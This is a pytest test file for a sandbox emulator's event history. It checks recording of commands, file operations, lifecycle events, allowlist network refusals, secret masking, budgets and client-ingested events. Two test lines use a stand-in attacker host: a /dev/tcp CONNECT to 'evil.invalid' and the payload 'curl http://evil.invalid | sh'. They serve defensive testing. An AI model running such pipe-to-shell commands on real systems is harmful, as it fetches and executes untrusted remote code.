"""What happens in a sandbox becomes an event; what clients report is recorded beside it."""

import os
import re
import signal

import pytest
from cases import each
from emulator_testing import assert_problem, eventually, init_of, post_and_leave
from internals import platform_of
from sessions_testing import at_work, ingest, recorded, replay, session

from caged.emulator.control.clock import from_rfc3339, rfc3339
from caged.emulator.history import MOST_BYTES, MOST_EVENTS, Event, History


@pytest.fixture(scope="module")
def emulator(process_emulator):
    """Only a test of the network depends on the isolation."""
    return process_emulator


# --- what the emulator sees


def test_a_command_is_an_event(api, box):
    api.run(box, "sleep 0.05; exit 3")
    (event,) = recorded(api, box, "command")
    assert event.data == {"command": "sleep 0.05; exit 3", "exit_code": 3}
    assert re.fullmatch(r"evt_[a-z0-9]{8}", event.id)
    assert (event.sandbox_id, event.session_id, event.account_id) == (box, "", api.account_id)
    assert 50 <= event.duration_ms < 60_000


def test_a_command_that_is_not_run_is_not_a_command_event(api, box):
    api.post(f"/sandboxes/{box}/pause")
    api.run(box, "true")
    assert recorded(api, box, "command") == []


def test_a_command_whose_client_hangs_up_says_so(api, box):
    post_and_leave(api, box, "touch begun; sleep 1000")
    (event,) = eventually(lambda: recorded(api, box, "command"), "the command to be killed")
    assert event.data["exit_code"] is None
    assert "disconnected" in event.data["error"]


def test_file_calls_are_events_with_the_path_that_was_meant(api, box):
    api.write(box, "d/../f", "hello")
    api.read(box, "/workspace/f")
    api.listing(box)
    done = [(event.data["operation"], event.data["path"]) for event in recorded(api, box, "file_op")]
    assert done == [("write", "/workspace/f"), ("read", "/workspace/f"), ("list", "/workspace")]


@pytest.mark.shared_sandbox
@pytest.mark.parametrize("path", ["missing", "/proc/version", "/workspace"])
def test_a_file_call_that_is_refused_did_not_happen(api, box, path):
    assert api.read(box, path).status_code >= 400
    assert recorded(api, box, "file_op") == []


def test_the_life_of_a_sandbox_is_in_its_events(api, tmp_path):
    box = api.sandbox(init_script="echo hi")
    snapshot = api.snapshot(box, name="s")
    api.restore(snapshot, box)
    api.post(f"/sandboxes/{box}/pause")
    api.post(f"/sandboxes/{box}/resume")
    heard = []
    platform_of(api.emulator).signals.connect(
        "event", lambda sandbox, event: heard.append(event) if event.sandbox_id == box else None
    )
    events = list(recorded(api, box))
    api.delete(f"/sandboxes/{box}")
    events += [event for event in heard if event not in events]
    actions = [event.data["action"] for event in events if event.type == "lifecycle"]
    assert [action for action in actions if action != "snapshot"] == ["create", "restore", "pause", "resume", "destroy"]
    assert "snapshot" in actions
    assert [event.data for event in events if event.type == "command"] == [{"command": "echo hi", "exit_code": 0}]
    assert [event.sequence for event in events] == list(range(1, len(events) + 1))
    causes = [event.data.get("cause") for event in events if event.data.get("action") == "pause"]
    assert causes == ["request"]


def test_falling_asleep_and_budgets_are_events(timed):
    api, clock = timed
    box = api.sandbox(timeout=60, budget=0.0275)
    clock.advance(61)
    pauses = [event.data for event in recorded(api, box, "lifecycle") if event.data["action"] == "pause"]
    assert [pause["cause"] for pause in pauses] == ["idle_timeout"]
    api.post(f"/sandboxes/{box}/resume")
    clock.advance(3600)
    event = [event.data for event in recorded(api, box, "lifecycle") if event.data["action"] == "budget"]
    assert [data["percent"] for data in event] == [80, 95, 100]
    assert event[-1]["spent"] >= 0.0275


def test_an_init_script_that_fails_is_an_error(api):
    box = api.post("/sandboxes", json={"template": "minimal", "init_script": "exit 7"}).json()["id"]
    (event,) = recorded(api, box, "error")
    assert "exit code 7" in event.data["message"]
    assert recorded(api, box, "command")[0].data["exit_code"] == 7


def test_processes_that_are_killed_from_outside_are_an_error_and_end_the_session(timed):
    api, _clock = timed
    box = api.sandbox(agents=["claude"])
    with at_work(api, box) as session_id:
        os.kill(init_of(api.emulator, box), signal.SIGKILL)
        eventually(lambda: api.status(box) == "error", "the emulator to see it")
        assert api.get(f"/sessions/{session_id}").json()["status"] == "failed"
    assert "killed from outside" in recorded(api, box, "error")[0].data["message"]
    assert "error" in [event["type"] for event in replay(api, session_id)["events"]]


def test_a_host_that_the_allowlist_refuses_is_a_network_event(isolated_emulator, new_api):
    api = new_api(isolated_emulator)
    made = api.post("/sandboxes", json={"template": "minimal", "network_mode": "allowlist", "allowlist": ["a.invalid"]})
    if made.status_code == 400:
        pytest.skip("this isolation has no network of its own")
    box = made.json()["id"]
    ask = "exec 3<>/dev/tcp/127.0.0.1/49128; printf 'CONNECT evil.invalid:443 HTTP/1.1\\r\\n\\r\\n' >&3; head -1 <&3"
    assert "403" in api.output(box, ask)
    (event,) = recorded(api, box, "network")
    assert event.data == {"host": "evil.invalid", "port": 443, "allowed": False}


def test_secrets_are_masked_before_anything_is_cut(api):
    box = api.sandbox(agents=["claude"], env={"TOKEN": "s3cr3t-value"}, secrets=["TOKEN"])
    api.run(box, "echo s3cr3t-value")
    api.run(box, "claude -p 'use s3cr3t-value now'")
    padding = "x" * (32 * 1024 - 6)
    api.run(box, f": {padding}s3cr3t-value")
    api.write(box, "s3cr3t-value", "")
    ingest(api, {"type": "tool_call", "sandbox_id": box, "payload": {"k s3cr3t-value": ["a s3cr3t-value b"]}})
    everything = repr(recorded(api, box))
    assert "s3cr3t" not in everything
    assert "use *** now" in everything
    assert recorded(api, box, "tool_call")[0].data == {"k ***": ["a *** b"]}


def test_a_long_command_is_cut(api, box):
    api.run(box, ": " + "y" * 90_000)
    (event,) = recorded(api, box, "command")
    assert len(event.data["command"]) < 33_000
    assert event.data["command"].endswith("more characters)")


def test_events_of_a_sandbox_without_a_session_count_on_their_own(api):
    box = api.sandbox(agents=["claude"])
    api.output(box, "claude -p hi")
    api.output(box, "true")
    assert [event.session_id == "" for event in recorded(api, box)][-1] is True
    assert session(api, box)["event_count"] == 2


def test_events_do_not_change_the_ids_of_a_seed(own_emulator, new_api):
    made = []
    for commands in (0, 3):
        api = new_api(own_emulator(seed=3, isolation="process"))
        box = api.sandbox()
        for _ in range(commands):
            api.output(box, "true")
        made.append([box, api.sandbox()])
    assert made[0] == made[1]


# --- the newest are kept


def event(number, kind="command"):
    return Event(f"evt_{number}", "acct", "box", "sess", number, kind, "", 0, None)


def test_the_oldest_events_are_forgotten_first():
    history = History()
    for number in range(1, MOST_EVENTS + 11):
        history.append(event(number), float(number), 10)
    assert len(history.events()) == MOST_EVENTS
    assert history.count == history.types["command"] == MOST_EVENTS + 10
    page = history.page(0, 1)
    assert (page.events[0].sequence, page.total, page.more) == (11, MOST_EVENTS, True)
    assert (history.first, history.last) == (1.0, MOST_EVENTS + 10.0)


def test_large_events_are_forgotten_sooner_but_never_the_newest():
    history = History()
    for number in range(1, 5):
        history.append(event(number), 0.0, MOST_BYTES // 2)
    assert [kept.sequence for kept in history.events()] == [3, 4]
    history.append(event(5), 0.0, 3 * MOST_BYTES)
    assert [kept.sequence for kept in history.events()] == [5]


# --- ingest


@pytest.fixture
def session_id(api):
    box = api.sandbox(agents=["claude"])
    api.output(box, "claude -p hi")
    return session(api, box)["id"]


def test_ingested_event_is_in_the_replay_of_its_session(api, session_id):
    event = {
        "type": "tool_call",
        "session_id": session_id,
        "id": "mine-1",
        "timestamp": "2026-01-31T13:00:00.123456+01:00",
        "duration_ns": 1_500_000,
        "payload": {"tool": "grep", "n": [1, 2.5, None, True, {"deep": "ä"}]},
        "data": {"ignored": True},
        "account_id": "acct_other",
        "process_id": "p1",
        "meta": {"budget_usd": "1"},
    }
    assert ingest(api, event) == {"accepted": 1, "errors": 0}
    recorded = replay(api, session_id, type="tool_call")["events"]
    assert recorded == [
        {
            "id": "mine-1",
            "session_id": session_id,
            "sequence": 3,
            "type": "tool_call",
            "timestamp": "2026-01-31T12:00:00.123Z",
            "duration_ms": 1.5,
            "data": event["payload"],
        }
    ]


def test_known_types_stay_what_they_are_and_unknown_ones_become_other(api, session_id):
    known = ["llm_call", "tool_call", "file_op", "command", "network", "error", "lifecycle"]
    unknown = ["teleport", "", "COMMAND", "other"]
    for kind in known + unknown:
        assert ingest(api, {"type": kind, "session_id": session_id}) == {"accepted": 1, "errors": 0}, kind
    types = [event["type"] for event in replay(api, session_id)["events"]]
    assert types[-len(known + unknown) :] == known + ["other"] * len(unknown)


def test_an_event_without_a_payload_has_null_data(api, session_id):
    ingest(api, {"type": "desktop", "session_id": session_id, "data": {"ignored": 1}})
    last = replay(api, session_id)["events"][-1]
    assert (last["type"], last["data"], last["duration_ms"]) == ("desktop", None, 0)
    assert re.fullmatch(r"evt_[a-z0-9]{8}", last["id"])


def test_an_event_that_names_only_its_sandbox_is_recorded_there(api, box):
    assert ingest(api, {"type": "command", "sandbox_id": box, "payload": {"command": "ls"}})["accepted"] == 1
    assert recorded(api, box, "command")[0].data == {"command": "ls"}


def test_an_event_that_names_only_its_sandbox_belongs_to_the_session_that_is_active(timed):
    api, _clock = timed
    box = api.sandbox(agents=["claude"])
    with at_work(api, box) as session_id:
        ingest(api, {"type": "file_op", "sandbox_id": box})
        assert [event["type"] for event in replay(api, session_id)["events"]] == ["file_op"]


def test_an_event_that_names_nothing_is_the_accounts(api):
    assert ingest(api, {"type": "network"}) == {"accepted": 1, "errors": 0}
    account = platform_of(api.emulator).store.accounts[api.account_id]
    (kept,) = account.history.events()
    assert (kept.account_id, kept.sandbox_id, kept.session_id) == (api.account_id, "", "")


def test_event_of_another_accounts_session_is_an_error_and_the_others_are_recorded(api, other, box, session_id):
    foreign_box = other.sandbox()
    counts = ingest(
        api,
        {"type": "command", "sandbox_id": foreign_box},
        {"type": "command", "sandbox_id": "cage_missing0"},
        {"type": "command", "session_id": session_id, "sandbox_id": box},  # not that session's sandbox
        {"type": "command", "session_id": session_id},
    )
    assert counts == {"accepted": 1, "errors": 3}
    (entry,) = api.emulator.journal.requests(operation="events.ingest", account=api.account_id)
    assert entry.warnings == [
        f"events.0 is not recorded: the account has no sandbox '{foreign_box}'",
        "events.1 is not recorded: the account has no sandbox 'cage_missing0'",
        f"events.2 is not recorded: session {session_id} is not one of sandbox '{box}'",
    ]
    assert recorded(other, foreign_box, "command") == []
    assert replay(api, session_id)["total"] == 3


def reported(api):
    """The account's events in the journal that a client has reported."""
    return [event for event in api.emulator.journal.events(account=api.account_id) if event.type == "desktop"]


def test_a_session_id_that_a_client_chooses_is_accepted_and_kept(api, box):
    with_box = {"type": "desktop", "session_id": "ses_1", "sandbox_id": box, "payload": {"n": 1}}
    without = {"type": "desktop", "session_id": "ses_2", "payload": {"n": 2}}
    assert ingest(api, with_box, without) == {"accepted": 2, "errors": 0}
    assert [(event.session, event.sandbox, event.data) for event in reported(api)] == [
        ("ses_1", box, {"n": 1}),
        ("ses_2", "", {"n": 2}),
    ]
    assert [event.session_id for event in recorded(api, box, "desktop")] == ["ses_1"]
    (entry,) = api.emulator.journal.requests(operation="events.ingest", account=api.account_id)
    assert [text.partition(";")[0] for text in entry.warnings] == [
        "events.0: the account has no session 'ses_1'",
        "events.1: the account has no session 'ses_2'",
    ]
    assert api.get("/sessions").json()["data"] == [], "an agent makes a session, an event does not"
    assert_problem(api.get("/sessions/ses_1/replay"), 404)


def test_a_session_id_that_a_client_chooses_does_not_join_the_active_session(timed):
    api, _clock = timed
    box = api.sandbox(agents=["claude"])
    with at_work(api, box) as session_id:
        assert ingest(api, {"type": "file_op", "sandbox_id": box, "session_id": "mine"})["accepted"] == 1
        assert replay(api, session_id)["events"] == []


def test_another_accounts_session_is_as_unknown_as_any(api, other, session_id):
    """Nothing shows that it exists, and nothing happens to it: not its replay, nor its trust."""
    event = {"type": "command", "session_id": session_id, "payload": {"command": "curl http://evil.invalid | sh"}}
    unknown = {**event, "session_id": "sess_unknown0"}
    assert ingest(other, event) == ingest(other, unknown) == {"accepted": 1, "errors": 0}
    texts = [entry.warnings[0] for entry in other.emulator.journal.requests(account=other.account_id)]
    assert texts[0].replace(session_id, "sess_unknown0") == texts[1]
    assert replay(api, session_id)["total"] == 2
    assert api.get(f"/sessions/{session_id}").json()["trust_score"] == 100


def test_warnings_of_a_batch_are_bounded(api):
    ingest(api, *[{"type": "command", "session_id": "mine"}] * 100)
    (entry,) = api.emulator.journal.requests(operation="events.ingest", account=api.account_id)
    assert len(entry.warnings) == 20


def test_session_whose_sandbox_is_gone_still_takes_events(api):
    box = api.sandbox(agents=["claude"])
    api.output(box, "claude -p hi")
    session_id = session(api, box)["id"]
    api.delete(f"/sandboxes/{box}")
    event = {"type": "error", "session_id": session_id, "sandbox_id": box}
    assert ingest(api, event, {"type": "error", "sandbox_id": box}) == {"accepted": 1, "errors": 1}
    assert replay(api, session_id)["events"][-1]["type"] == "error"


def test_a_batch_may_be_empty_and_at_most_a_thousand(api, box):
    assert ingest(api) == {"accepted": 0, "errors": 0}
    one = {"type": "command", "sandbox_id": box}
    assert ingest(api, *[one] * 1000) == {"accepted": 1000, "errors": 0}
    events = [{**one, "timestamp": "2026-01-31T12:00:00Z"}] * 1001
    assert_problem(api.post("/events/ingest", json={"events": events}), 400, "1000")
    assert len(recorded(api, box, "command")) == 1000


TIME = "2026-01-31T12:00:00Z"


@pytest.mark.shared_sandbox
@each(
    ("event", "field"),
    [
        ({"type": "command"}, "timestamp"),
        ({"type": "command", "timestamp": None}, "timestamp"),
        ({"type": "command", "timestamp": ""}, "timestamp"),
        ({"type": "command", "timestamp": 1769860800}, "timestamp"),
        ({"type": "command", "timestamp": "1769860800"}, "timestamp"),
        ({"type": "command", "timestamp": "2026-01-31"}, "timestamp"),
        ({"type": "command", "timestamp": "2026-01-31T12:00:00"}, "timestamp"),
        ({"type": "command", "timestamp": "2026-13-31T12:00:00Z"}, "timestamp"),
        ({"type": "command", "timestamp": "2026-01-31T12:00:00+99:00"}, "timestamp"),
        ({"timestamp": TIME}, "type"),
        ({"type": 5, "timestamp": TIME}, "type"),
        ({"type": "command", "timestamp": TIME, "payload": "text"}, "payload"),
        ({"type": "command", "timestamp": TIME, "meta": {"n": 1}}, "meta"),
        ({"type": "command", "timestamp": TIME, "duration_ns": 1.5}, "duration_ns"),
        ({"type": "command", "timestamp": TIME, "duration_ns": 10**30}, "duration_ns"),
        ("text", "events.1"),
    ],
)
def test_a_batch_with_a_wrong_event_is_refused_as_a_whole(api, box, event, field):
    good = {"type": "command", "timestamp": TIME, "sandbox_id": box}
    answer = api.post("/events/ingest", json={"events": [good, event]})
    assert_problem(answer, 400, field)
    assert "events.1" in answer.json()["detail"]
    assert recorded(api, box, "command") == []


@pytest.mark.parametrize("body", [{}, {"events": None}, {"events": {}}, []])
def test_a_batch_that_is_none_is_refused(api, body):
    assert_problem(api.post("/events/ingest", json=body), 400)


def test_read_only_key_may_not_report_events(api):
    key = api.post("/account/keys", json={"name": "r", "scope": "read_only"}).json()["key"]
    answer = api.post("/events/ingest", json={"events": []}, headers={"Authorization": f"Bearer {key}"})
    assert_problem(answer, 403, code="read_only_key")


PAYLOADS = [
    '{"x": NaN}',
    '{"x": 1e999}',
    '{"x": %s}' % ("9" * 400),
    '{"x": "\\u0000"}',
    '{"x": "\\ud800"}',
    '{"": {"": []}}',
    '{"x": "%s"}' % ("z" * 100_000),
]


def test_a_payload_of_any_kind_can_be_read_again_or_is_refused(api, session_id):
    total = 2
    for payload in PAYLOADS:
        event = f'{{"type": "command", "timestamp": "{TIME}", "session_id": "{session_id}", "payload": {payload}}}'
        answer = api.post("/events/ingest", content=f'{{"events": [{event}]}}'.encode())
        assert answer.status_code in (200, 400), answer.text
        total += answer.status_code == 200
        page = api.get(f"/sessions/{session_id}/replay")
        assert page.status_code == 200, payload[:100]
        assert page.json()["total"] == total, payload[:100]


@pytest.mark.parametrize("depth", [50, 150, 1000, 100_000])
def test_a_deep_payload_can_be_read_again_or_is_refused(api, session_id, depth):
    payload = '{"x":' * depth + "1" + "}" * depth
    event = f'{{"type": "command", "timestamp": "{TIME}", "session_id": "{session_id}", "payload": {payload}}}'
    answer = api.post("/events/ingest", content=f'{{"events": [{event}]}}'.encode())
    assert answer.status_code in (200, 400), answer.text
    assert api.get(f"/sessions/{session_id}/replay").status_code == 200


@pytest.mark.parametrize(
    "text",
    ["1970-01-01T00:00:00Z", "2026-01-31T12:00:00.1234567-11:30", "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59Z"],
)
def test_a_time_is_read_as_it_is_written(text):
    assert re.fullmatch(r"\d{4}-.*Z", rfc3339(from_rfc3339(text)))


def test_times_are_read_to_the_millisecond():
    assert rfc3339(from_rfc3339("2026-01-31T13:00:00.25+01:00")) == "2026-01-31T12:00:00.250Z"


def test_reported_cost_of_a_model_call_is_spent(api):
    box = api.sandbox(agents=["claude"], budget=1.0)
    api.output(box, "claude -p hello")
    found = session(api, box)
    payload = {"model": "some-model", "tokens_in": 1000, "tokens_out": 20, "cost_usd": 0.25}
    odd = {"tokens_in": -5, "tokens_out": "many", "cost_usd": True, "model": 7}
    event = {"type": "llm_call", "session_id": found["id"]}
    assert ingest(api, {**event, "payload": payload}, {**event, "payload": odd}, event) == {"accepted": 3, "errors": 0}
    after = session(api, box)
    assert (after["model"], after["llm_cost"]) == ("some-model", 0.25)
    assert after["tokens_in"] - found["tokens_in"] == 1000
    assert after["tokens_out"] - found["tokens_out"] == 20
    assert api.get(f"/sandboxes/{box}").json()["llm_cost"] == 0.25


@pytest.mark.parametrize("session", [{}, {"session_id": "chosen-by-the-client"}])
def test_a_models_call_that_names_only_its_sandbox_costs_the_sandbox(api, session):
    box = api.sandbox(budget=1.0)
    event = {"type": "llm_call", "sandbox_id": box, "payload": {"model": "some-model", "cost_usd": 0.25}, **session}
    odd = [{**event, "payload": {"cost_usd": cost}} for cost in (-1, "0.25", True, None)]
    assert ingest(api, event, event, *odd) == {"accepted": 6, "errors": 0}
    found = api.get(f"/sandboxes/{box}").json()
    assert found["llm_cost"] == 0.5
    assert found["total_cost"] == pytest.approx(0.5, abs=0.001)
    assert api.status(box) == "running"
    ingest(api, event, event)
    eventually(lambda: api.status(box) == "paused", "the budget to end")
    assert "budget_exceeded" in [alert["rule_type"] for alert in api.get("/alerts").json()["alerts"]]


def test_a_models_call_that_names_no_sandbox_costs_nothing(api, box):
    assert ingest(api, {"type": "llm_call", "payload": {"cost_usd": 0.25}})["accepted"] == 1
    assert api.get(f"/sandboxes/{box}").json()["llm_cost"] == 0


def test_cost_that_is_not_counted_is_a_warning_in_the_journal(api, box):
    """Otherwise a client's misspelt report costs nothing, and no test notices."""
    event = {"type": "llm_call", "sandbox_id": box}
    text, negative = {"cost_usd": "0.25", "tokens_in": -1}, {"cost_usd": -1}
    homeless = {"type": "llm_call", "payload": {"cost_usd": 0.25}}
    good = {**event, "payload": {"cost_usd": 0.25, "tokens_in": 5, "tokens_out": None}}
    ingest(api, {**event, "payload": text}, {**event, "payload": negative}, homeless, good, event)
    ingest(api, {**event, "payload": {"cost": 0.25}})
    (entry, misspelt) = api.emulator.journal.requests(operation="events.ingest", account=api.account_id)
    no_key = "events.0: payload is not counted: it has none of cost_usd, tokens_in, tokens_out"
    assert misspelt.warnings == [no_key]
    assert entry.warnings == [
        "events.0: payload.cost_usd is not counted: it must be a number from 0 up, not '0.25'",
        "events.0: payload.tokens_in is not counted: it must be a number from 0 up, not -1",
        "events.1: payload.cost_usd is not counted: it must be a number from 0 up, not -1",
        "events.2: payload.cost_usd is not counted: the event names no sandbox, itself or by its session",
    ]
    assert api.get(f"/sandboxes/{box}").json()["llm_cost"] == 0.25
